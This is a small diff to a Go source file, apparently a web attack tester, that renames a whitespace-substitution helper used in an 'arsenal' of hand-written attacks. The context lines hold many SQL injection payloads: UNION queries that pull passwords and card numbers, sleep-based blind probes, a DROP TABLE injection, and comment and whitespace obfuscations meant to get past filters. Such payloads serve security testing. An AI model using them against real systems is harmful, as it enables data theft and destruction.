@@ -174,8 +174,9 @@ func mixedCase(s string) string {
 	return string(b)
 }
 
-func replacing(old, by string) func(string) string {
-	return func(s string) string { return strings.ReplaceAll(s, old, by) }
+// spacing writes something else for spaces.
+func spacing(by string) func(string) string {
+	return func(s string) string { return strings.ReplaceAll(s, " ", by) }
 }
 
 // arsenal are all hand-written attacks.
@@ -187,11 +188,11 @@ func arsenal() []weapon {
 			payloads: []string{"'", "lamp' OR '1'='1", "zz' OR 1=1-- -", "lamp' AND '1'='2", "zz' UNION SELECT name, password, card FROM users-- -", "zz' UNION SELECT name, password FROM users-- -", "zz') UNION SELECT name, password FROM users-- -",
 				"zz' UNION SELECT password FROM users-- -", "zz' UNION SELECT 1,sqlite_version(),3-- ", "zz' AND extractvalue(1,concat(0x7e,(SELECT password FROM users LIMIT 1)))-- -", "zz' OR sleep(5)-- -", "lamp'||(SELECT sleep(4))||'",
 				"zz' OR (SELECT count(*) FROM users)>2-- -", "x'; DROP TABLE products; --", "zz' UNION SELECT concat(0x716b6b71,md5(4711),0x71787a71),2,3#", "lamp' AND substr((SELECT password FROM users LIMIT 1),1,1)='5'-- -", "lamp'/**/AND/**/1=1/**/AND/**/'a'='a"},
-			spellings: []func(string) string{plain, replacing(" ", "/**/"), mixedCase, replacing(" ", "\t"), plain}},
+			spellings: []func(string) string{plain, spacing("/**/"), mixedCase, spacing("\t"), plain}},
 		{name: "SQL in numbers", kind: "sqli",
 			places:    []place{inQuery("/item?id="), inPath("/items/"), inQuery("/item?lang=en&id=")},
 			payloads:  []string{"1 AND 1=1", "1 AND 1=2", "1 OR 1=1", "-1 UNION SELECT id,name,password FROM users", "-1 UNION SELECT 1,2,card FROM users WHERE id=1-- -", "1 AND (SELECT sleep(5))=0", "(SELECT CASE WHEN (SELECT count(*) FROM users)=3 THEN 1 ELSE 0 END)", "1;SELECT pg_sleep(6)", "1'", "1 ORDER BY 9", "1 ORDER BY 2", "2-1", "0x31 OR 2>1", "1)) UNION SELECT name,password FROM users-- -", "-1) UNION SELECT name,password FROM users-- -", "1 RLIKE sleep(3)", "1 AND 5=(SELECT length(name) FROM users LIMIT 1)", "1 procedure analyse()"},
-			spellings: []func(string) string{plain, mixedCase, replacing(" ", "/*x*/"), replacing(" ", "\n")}},
+			spellings: []func(string) string{plain, mixedCase, spacing("/*x*/"), spacing("\n")}},
 		{name: "SQL in names", kind: "sqli",
 			places:   []place{inQuery("/export?format=csv&column="), inJSON("/api/items", `{"filter":"lamp","sort":`, `}`)},
 			payloads: []string{"(SELECT group_concat(name||':'||password) FROM users)", "name, (SELECT card FROM users LIMIT 1) AS x", "1,(SELECT sleep(5))", "nosuchcolumn", "(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='5' THEN name ELSE price END)", "note FROM products UNION SELECT 1,password FROM users--"}},
